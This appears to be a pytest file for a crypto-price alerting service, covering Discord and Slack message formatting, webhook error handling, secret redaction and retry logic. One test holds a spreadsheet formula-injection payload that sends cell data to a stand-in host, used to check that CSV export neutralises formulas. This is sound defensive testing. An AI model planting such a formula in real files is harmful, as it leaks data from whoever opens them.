"""Messages as people read them; what answers mean; what a desk does about them."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import parse_qs

import msgspec
import pytest
from kafka import TopicPartition
from prometheus_client import CollectorRegistry

from cryptoproxy.common.clients import elastic
from cryptoproxy.common.metrics import WatchMetrics
from cryptoproxy.common.service import Health
from cryptoproxy.common.settings import Settings
from cryptoproxy.datasets import ALERT, Alert, from_iso, iso
from cryptoproxy.errors import OperatorError, SettingsError
from cryptoproxy.watch.rulebook.reading import parse
from cryptoproxy.watch.rulebook.rules import Channel
from cryptoproxy.watch.telling import channels, desk, teller
from cryptoproxy.watch.telling.desk import Desk, Waiting
from cryptoproxy.watch.telling.links import NOWHERE, Links
from cryptoproxy.watch.telling.messages import Message, discord, filled, slack, table
from cryptoproxy.watch.telling.picture import Pictures, drawn
from cryptoproxy.watch.telling.silences import silenced
from cryptoproxy.watch.words import shown
from tests.conftest import wait_until
from tests.unit.watch.stand_in import StandIn

TOPIC = TopicPartition("alerts", 0)
RULES = parse(
    "channels: {ops: {discord: 'env:HOOK'}}\nrules: {r: {when: {above: 1}, tell: [ops]}, s: {when: {above: 1}}}"
)
EXAMPLE = ALERT.example


def alert(number: int, rule: str = "r", state: Any = "open") -> Alert:
    at = iso(from_iso(EXAMPLE.timestamp) + number * 1000)
    return msgspec.structs.replace(
        EXAMPLE, rule=rule, asset_id=rule, state=state, timestamp=at, since=EXAMPLE.timestamp, fetched_at=at
    )


@pytest.fixture
def stand_in(monkeypatch: pytest.MonkeyPatch) -> Iterator[StandIn]:
    made = StandIn()
    monkeypatch.setenv("HOOK", made.address)
    yield made
    made.close()


# --- messages
def test_one_alert_is_a_sentence_with_its_id():
    payload, files = discord(Message(alerts=[EXAMPLE]))
    (embed,) = payload["embeds"]
    assert embed["title"] == "🟠 btc-falls: BTCUSDT"
    assert embed["description"].splitlines()[0] == EXAMPLE.words
    assert embed["footer"]["text"] == ALERT.id_of(EXAMPLE)
    assert ("url" in embed, payload["allowed_mentions"], files) == (False, {"parse": []}, {})


LINKS = Links("https://page.example", "https://kibana.example/s/team")


def test_one_alert_leads_to_its_asset_on_the_page_and_in_kibana_at_its_time():
    message = Message(alerts=[EXAMPLE], links=LINKS)
    page, kibana = message.places.values()
    assert page == "https://page.example/asset?asset=binance:BTCUSDT:USDT"
    begin, _, state = kibana.partition("?")
    assert begin == "https://kibana.example/s/team/app/dashboards#/view/crypto-alerts-found"
    assert parse_qs(state) == {
        "_g": ["(time:(from:'2026-11-20T09:00:00.000Z',to:'2026-11-20T11:00:00.000Z'))"],
        "_a": ["(query:(language:kuery,query:'asset: \"binance:BTCUSDT:USDT\"'))"],
    }
    (embed,) = discord(message)[0]["embeds"]
    assert embed["url"] == page
    assert embed["description"].endswith(f"\n[Page]({page}) · [Kibana]({kibana})")
    assert slack(message)["text"].endswith(f"\n<{page}|Page> · <{kibana}|Kibana>")
    assert message.text.endswith(f"\nPage: {page}\nKibana: {kibana}")
    assert json.loads(filled("[{link}, {kibana}]", message)) == [page, kibana]


def test_several_lead_to_all_alerts_of_their_time_and_where_there_is_one_place_that_is_it():
    message = Message(alerts=[alert(0), alert(7200)], links=LINKS)
    page, kibana = message.places.values()
    assert page == "https://page.example/alerts"
    (times,) = parse_qs(kibana.partition("?")[2])["_g"]
    assert (times.count("T09:00:00"), times.count("T13:00:00"), "_a=" in kibana) == (1, 1, False)
    (embed,) = discord(Message(alerts=[EXAMPLE], links=Links(kibana="http://k")))[0]["embeds"]
    assert embed["url"].startswith("http://k/app/dashboards#/view/")
    assert "Page" not in embed["description"]


@pytest.mark.parametrize("name", ["it's", 'a"b', "a\\", "a!", "a)b(c", "a|b>c", "ü&x=1"])
def test_no_asset_ends_an_address_too_early(name: str):
    odd = msgspec.structs.replace(EXAMPLE, asset=f"binance:{name}:USDT")
    page, kibana = Message(alerts=[odd], links=LINKS).places.values()
    assert not set("()<>|'\"! ") & set(page + kibana)
    assert parse_qs(page.partition("?")[2]) == {"asset": [odd.asset]}
    said = parse_qs(kibana.partition("?")[2])["_a"][0]
    inner = said.removeprefix("(query:(language:kuery,query:'").removesuffix("'))")
    text = re.sub("!(.)", r"\1", inner)
    assert re.sub(r"\\(.)", r"\1", text) == f'asset: "{odd.asset}"'


def test_its_end_says_how_long_it_was():
    over = alert(660, state="resolved")
    message = Message(alerts=[over])
    assert message.title == "🟢 r: BTCUSDT is over"
    assert message.body.splitlines()[1].startswith("after 11 min")


def test_many_are_one_message_with_a_table_and_all_of_them_in_a_file():
    payload, files = discord(Message(alerts=[alert(i) for i in range(200)], rows=20))
    embed = payload["embeds"][0]
    assert embed["title"] == "🟠 200 alerts (200 open): r"
    assert "… and 180 more" in embed["description"]
    assert len(embed["description"]) < 4096
    assert files["alerts.csv"].count(b"\r\n") == 201


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (1.2345e-7, "0.00000012345"),
        (-0.0000032, "-0.0000032"),
        (9e-13, "9e-13"),
        (0.0104, "0.0104"),
        (1234567.8, "1,234,568"),
    ],
)
def test_small_numbers_are_written_out(value: float, text: str):
    assert shown(value) == text
    assert text in Message(alerts=[msgspec.structs.replace(EXAMPLE, value=value), EXAMPLE]).body


def test_what_may_be_there_already_and_what_is_late_say_so():
    message = Message(alerts=[EXAMPLE], repeat=True, late=True)
    assert message.title.startswith("(perhaps once more) (late) ")


def test_slack_s_own_signs_are_no_signs_in_our_words():
    told = msgspec.structs.replace(EXAMPLE, words="a < b & <!channel>")
    assert "a &lt; b &amp; &lt;!channel&gt;" in slack(Message(alerts=[told]))["text"]


def test_a_template_is_filled_with_json_texts():
    told = msgspec.structs.replace(EXAMPLE, words='says "no"')
    body = filled('{"text": {words}, "n": {count}, "at": {moment}, "own": {"x": 1}}', Message(alerts=[told]))
    assert json.loads(body)["text"].endswith('says "no"\nsince 2026-11-20 10:00 UTC · warning · binance:BTCUSDT:USDT')
    assert json.loads(body)["n"] == 1


def test_one_alert_shows_its_price_where_there_is_a_picture():
    points = [(from_iso(EXAMPLE.since) + i * 300_000, 60_000.0 + i) for i in range(-72, 1)]
    picture = drawn(EXAMPLE, points)
    assert picture.startswith(b"\x89PNG")
    assert picture == drawn(EXAMPLE, points)
    payload, files = discord(Message(alerts=[EXAMPLE], picture=picture))
    assert payload["embeds"][0]["image"] == {"url": "attachment://price.png"}
    assert files == {"price.png": picture}


def test_without_elasticsearch_there_is_no_picture_and_nobody_asks_again_at_once(caplog: pytest.LogCaptureFixture):
    settings, asked = Settings.from_texts({"ES_URL_ENDPOINT": "http://127.0.0.1:1"}).elasticsearch, []

    def connect() -> Any:
        asked.append(1)
        return elastic.client(settings, timeout=2.0)

    pictures = Pictures(settings, connect)
    with caplog.at_level(logging.INFO):
        assert [pictures.of(EXAMPLE), pictures.of(EXAMPLE)] == [None, None]
    assert len(asked) == 1
    assert "messages go without a picture" in caplog.text


# --- answers
@pytest.mark.parametrize(
    ("answer", "kind", "wait"),
    [
        (204, "taken", None),
        ((429, {"retry_after": 1.5, "global": True}), "later", 1.5),
        ((429, {"retry_after": 10**400}), "later", 3600.0),
        ((429, {"retry_after": "soon"}), "later", None),
        (503, "later", None),
        (404, "gone", None),
        (401, "gone", None),
        (400, "unfit", None),
        (0, "unknown", None),
    ],
)
def test_what_an_answer_means(stand_in: StandIn, answer: Any, kind: str, wait: float | None):
    stand_in.script = [answer]
    outcome = channels.send(RULES.channels["ops"], Message(alerts=[EXAMPLE]))
    assert (outcome.kind, outcome.wait) == (kind, wait)
    assert "secret" not in outcome.words


def test_a_bot_writes_to_a_channel_and_shows_its_token_to_nobody_else(
    stand_in: StandIn, monkeypatch: pytest.MonkeyPatch
):
    api = stand_in.address.partition("/webhooks")[0]
    rules = parse(
        f"channels: {{ops: {{discord-bot: 'env:BOT', to: '42', api: '{api}'}}}}\nrules: {{r: {{when: {{above: 1}}}}}}"
    )
    stand_in.script = [(429, {"retry_after": 0.4, "global": False}), 403]
    monkeypatch.setenv("BOT", "very.secret-token")
    message = Message(alerts=[EXAMPLE], picture=b"\x89PNG")
    told = [channels.send(rules.channels["ops"], message) for _ in range(3)]
    assert [(each.kind, each.wait) for each in told] == [("later", 0.4), ("gone", None), ("taken", None)]
    assert {post.way for post in stand_in.posts} == {("/api/channels/42/messages", "Bot very.secret-token")}
    assert stand_in.posts[-1].ids == [ALERT.id_of(EXAMPLE)]
    monkeypatch.setenv("BOT", "two words")
    assert channels.send(rules.channels["ops"], message).kind == "gone"
    assert len(stand_in.posts) == 3


@pytest.mark.parametrize(
    "wrong", ["{discord-bot: 'env:B'}", "{discord: 'env:B', to: '4'}", "{discord-bot: 'env:B', to: general}"]
)
def test_a_bot_needs_a_channel_and_nothing_else_has_one(wrong: str):
    with pytest.raises(SettingsError, match="yaml:1: channel ops: a discord-bot needs `to:`"):
        parse(f"channels: {{ops: {wrong}}}\nrules: {{r: {{when: {{above: 1}}}}}}")


def test_a_place_without_anything_is_a_person_s_to_mend(monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
    monkeypatch.delenv("HOOK", raising=False)
    assert channels.send(RULES.channels["ops"], Message(alerts=[EXAMPLE])).kind == "gone"
    file = tmp_path / "hook"
    file.write_text("not an address with a token\n")
    outcome = channels.send(Channel(name="x", way="slack", place=f"file:{file}"), Message(alerts=[EXAMPLE]))
    assert outcome.kind == "gone"
    assert "token" not in outcome.words


@pytest.mark.parametrize(
    "address",
    ["https://[bad/secret", "https://me:secret@[::1/x", f"https://{'a' * 70}.invalid/secret", "https://a:99999/secret"],
)
def test_what_cannot_be_an_address_holds_up_one_channel_and_is_not_shown(address: str, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("HOOK", address)
    outcome = channels.send(RULES.channels["ops"], Message(alerts=[EXAMPLE]))
    assert outcome.kind in ("gone", "later")
    assert "secret" not in outcome.words


@pytest.mark.parametrize("proxy", ["http://me:se[cret@127.0.0.1:1", "http://me:se/cret@127.0.0.1:1"])
def test_a_proxy_that_is_none_is_said_without_its_password(proxy: str, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("HOOK", "https://hooks.invalid/secret")
    monkeypatch.setenv("HTTPS_PROXY", proxy)
    outcome = channels.send(RULES.channels["ops"], Message(alerts=[EXAMPLE]))
    assert outcome.kind == "gone"
    assert "HTTPS_PROXY" in outcome.words
    assert "cret" not in outcome.words


def test_nobody_there_is_no_message_sent(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("HOOK", "http://127.0.0.1:1/secret")
    outcome = channels.send(RULES.channels["ops"], Message(alerts=[EXAMPLE]))
    assert (outcome.kind, outcome.words) == ("later", "no connection")


@pytest.mark.filterwarnings("ignore:'imghdr' is deprecated:DeprecationWarning")  # Apprise's own import
def test_apprise_serves_where_we_do_not(stand_in: StandIn, tmp_path: Path):
    (tmp_path / "address").write_text(stand_in.address.replace("http://", "json://").replace("/api/webhooks/1", ""))
    outcome = channels.send(
        Channel(name="x", way="apprise", place=f"file:{tmp_path / 'address'}"), Message(alerts=[EXAMPLE])
    )
    assert outcome.kind == "taken"
    assert stand_in.posts[0].payload["message"].startswith(EXAMPLE.words)


@pytest.mark.filterwarnings("ignore:'imghdr' is deprecated:DeprecationWarning")
@pytest.mark.parametrize("way", ["slack", "apprise"])
def test_what_netrc_has_for_everybody_is_no_channel_s(
    stand_in: StandIn, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, way: Any
):
    (tmp_path / ".netrc").write_text("default login somebody password secret\n")
    (tmp_path / ".netrc").chmod(0o600)
    monkeypatch.setenv("HOME", str(tmp_path))
    address = stand_in.address if way == "slack" else stand_in.address.replace("http://", "json://")
    (tmp_path / "address").write_text(address)
    sent = channels.send(Channel(name="x", way=way, place=f"file:{tmp_path / 'address'}"), Message(alerts=[EXAMPLE]))
    assert sent.kind == "taken"
    assert stand_in.posts[0].way[1] == ""


def test_no_cell_of_the_table_is_a_formula():
    told = msgspec.structs.replace(EXAMPLE, words='=IMPORTDATA("http://x/"&A1)', asset="binance:@X:USDT", value=-2.5)
    cells = next(iter(list(csv.reader(io.StringIO(table([told]).decode())))[1:]))
    assert cells[-1] == "'" + told.words
    assert "-2.5" in cells, "a number stays one"


# --- silences
def test_a_rule_or_an_asset_is_silenced():
    assert silenced(EXAMPLE, {"btc-falls": 1})
    assert silenced(EXAMPLE, {"binance:BTCUSDT": 1})
    assert silenced(EXAMPLE, {"binance": 1})
    assert not silenced(EXAMPLE, {"btc": 1, "bybit-spot": 1})


# --- a desk
class Bench:
    """A desk, and what it has noted."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, *, done: int = 0, trying: int | None = None) -> None:
        monkeypatch.setattr(desk, "GATHER_SECONDS", 0.0)
        self.noted: list[tuple[int, int | None]] = []
        self.silent: dict[str, int] = {}
        self.health = Health()
        self.desk = Desk(
            RULES.channels["ops"], done={TOPIC: done}, trying=None if trying is None else {TOPIC: trying},
            note=self.note, send=lambda where, message, plain: channels.send(where, message, plain=plain),
            silences=lambda: self.silent, rules=lambda: RULES, now_ms=lambda: from_iso(EXAMPLE.timestamp),
            health=self.health, metrics=WatchMetrics(CollectorRegistry()),
        )  # fmt: skip

    def note(self, name: str, done: dict[Any, int], trying: dict[Any, int] | None) -> None:
        self.noted.append((done[TOPIC], None if trying is None else trying[TOPIC]))

    def put(self, *alerts: Alert, begin: int = 0) -> None:
        for offset, each in enumerate(alerts, begin):
            self.desk.put(Waiting(TOPIC, offset, each))

    def wait_done(self, offset: int) -> None:
        wait_until(lambda: self.desk.done.get(TOPIC) == offset, what=f"all before {offset} is told")
        self.desk.stop(10)


@pytest.fixture
def no_pause(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("cryptoproxy.watch.telling.desk.Backoff.next", lambda self, retry_after=None: 0.01)


def test_all_that_waits_is_one_message_noted_before_and_after(stand_in: StandIn, monkeypatch: pytest.MonkeyPatch):
    bench = Bench(monkeypatch)
    bench.put(alert(0), alert(1), alert(2, rule="s"))
    bench.desk.start()
    bench.wait_done(3)
    (post,) = stand_in.posts
    assert len(post.ids) == 2, "the rule s tells nobody"
    assert bench.noted == [(0, 3), (3, None)]


@pytest.mark.usefixtures("no_pause")
def test_what_was_refused_is_sent_again_unmarked_and_a_lost_answer_marked(
    stand_in: StandIn, monkeypatch: pytest.MonkeyPatch
):
    stand_in.script = [503, (429, {"retry_after": 0.01}), 0, 204]
    bench = Bench(monkeypatch)
    bench.put(alert(0))
    bench.desk.start()
    bench.wait_done(1)
    assert [(post.status, post.repeat) for post in stand_in.posts] == [
        (503, False),
        (429, False),
        (0, False),
        (204, True),
    ]
    assert bench.health.reasons() == {}


def test_what_was_tried_before_a_kill_is_sent_once_more_and_says_so(stand_in: StandIn, monkeypatch: pytest.MonkeyPatch):
    bench = Bench(monkeypatch, done=5, trying=7)
    bench.put(*(alert(i) for i in range(10)))
    bench.desk.start()
    bench.wait_done(10)
    assert [(len(post.ids), post.repeat) for post in stand_in.posts] == [(2, True), (3, False)]


@pytest.mark.usefixtures("no_pause")
def test_a_message_that_does_not_fit_is_told_plainly(stand_in: StandIn, monkeypatch: pytest.MonkeyPatch):
    stand_in.script = [400, 204]
    bench = Bench(monkeypatch)
    bench.put(alert(0))
    bench.desk.start()
    bench.wait_done(1)
    assert set(stand_in.posts[1].payload) == {"content", "allowed_mentions"}


def test_a_deleted_webhook_is_said_and_tried_again_with_a_new_one(
    stand_in: StandIn, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
):
    caplog.set_level(logging.INFO)
    monkeypatch.setattr(desk, "GONE_SECONDS", 0.01)
    stand_in.script = [404]
    bench = Bench(monkeypatch)
    bench.put(alert(0))
    bench.desk.start()
    bench.wait_done(1)
    assert "the webhook was deleted" in caplog.text
    assert "very-secret" not in caplog.text


def test_what_is_silenced_is_not_told_later_either(stand_in: StandIn, monkeypatch: pytest.MonkeyPatch):
    bench = Bench(monkeypatch)
    bench.silent = {"r": 1}
    bench.put(alert(0))
    bench.desk.start()
    bench.wait_done(1)
    assert (stand_in.posts, bench.noted) == ([], [(1, None)])


def test_a_desk_whose_ledger_is_another_s_sends_nothing(stand_in: StandIn, monkeypatch: pytest.MonkeyPatch):
    def refuse(*_: Any) -> None:
        raise OperatorError("fenced", remedy="Nothing")

    bench = Bench(monkeypatch)
    monkeypatch.setattr(bench.desk, "_note", refuse)
    bench.put(alert(0))
    bench.desk.start()
    wait_until(lambda: bench.desk.error, what="the desk has given up")
    assert stand_in.posts == []


@pytest.mark.parametrize("where", ["_send", "_note"])
def test_a_desk_that_fails_unforeseen_says_so_and_keeps_what_waits(
    stand_in: StandIn, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, where: str
):
    def broken(*_: Any) -> None:
        raise ValueError("https://very-secret")

    bench = Bench(monkeypatch)
    monkeypatch.setattr(bench.desk, where, broken)
    bench.put(alert(0))
    bench.desk.start()
    told = (lambda: "(ValueError)" in caplog.text) if where == "_send" else (lambda: bench.desk.error)
    wait_until(told, what="the desk has said that it failed")
    bench.desk.stop(10)
    assert "very-secret" not in f"{caplog.text} {bench.desk.error}"
    assert (bench.desk.waits, stand_in.posts) == (1, [])


def test_nobody_is_left_alone_for_ever(stand_in: StandIn):
    stand_in.script = [(429, {"retry_after": 1e300})]
    assert channels.send(RULES.channels["ops"], Message(alerts=[EXAMPLE])).wait == channels.LONGEST_WAIT


def alone() -> teller.Teller:
    """Without Kafka: what of it a test needs, the test puts in."""
    none: Any = None
    return teller.Teller(
        kafka=none, shares=none, make_ledger=none, connect=none, rules=lambda: RULES, now_ms=lambda: 0, health=Health(),
        metrics=WatchMetrics(CollectorRegistry()), links=NOWHERE, picture=lambda _: None,
    )  # fmt: skip


def test_what_was_tried_before_the_topic_was_made_again_holds_up_nothing(
    stand_in: StandIn, monkeypatch: pytest.MonkeyPatch
):
    class Short:
        """The topic of alerts has one by now."""

        def assignment(self) -> set[Any]:
            return {TOPIC}

        def end_offsets(self, partitions: list[Any]) -> dict[Any, int]:
            return dict.fromkeys(partitions, 1)

    monkeypatch.setattr(desk, "GATHER_SECONDS", 0.0)
    told = alone()
    monkeypatch.setattr(told, "_consumer", Short())
    monkeypatch.setattr(told, "_note", lambda *_: None)
    places = [[[TOPIC.topic, TOPIC.partition, offset]] for offset in (90, 95)]
    told._known["channel:ops"] = teller._pack(places)
    ops = told._desk(RULES.channels["ops"])
    ops.start()
    ops.reached({TOPIC: 1})
    ops.put(Waiting(TOPIC, 1, alert(0)))
    wait_until(lambda: stand_in.posts, what="the new one is told")
    ops.stop(10)


@pytest.mark.parametrize(
    "stored", [b"", b"\xc1", teller._pack(7), teller._pack([[], 7]), teller._pack([[[1, 2]], None])]
)
def test_where_it_cannot_be_read_how_far_a_channel_was_told_what_is_new_is_told(
    stored: bytes, monkeypatch: pytest.MonkeyPatch
):
    class Reader:
        def assignment(self) -> set[Any]:
            return {TOPIC}

        def end_offsets(self, partitions: list[Any]) -> dict[Any, int]:
            return dict.fromkeys(partitions, 9)

        def offsets_for_times(self, moments: dict[Any, int]) -> dict[Any, Any]:
            return dict.fromkeys(moments, SimpleNamespace(offset=5))

    told = alone()
    noted: list[Any] = []
    monkeypatch.setattr(told, "_consumer", Reader())
    monkeypatch.setattr(told, "_note", lambda *those: noted.append(those))
    told._known |= {"channel:ops": stored, "channel:other": teller._pack([[], None])}
    assert told._desk(RULES.channels["ops"]).done == {TOPIC: 5}
    assert noted == [("ops", {TOPIC: 5}, None)]
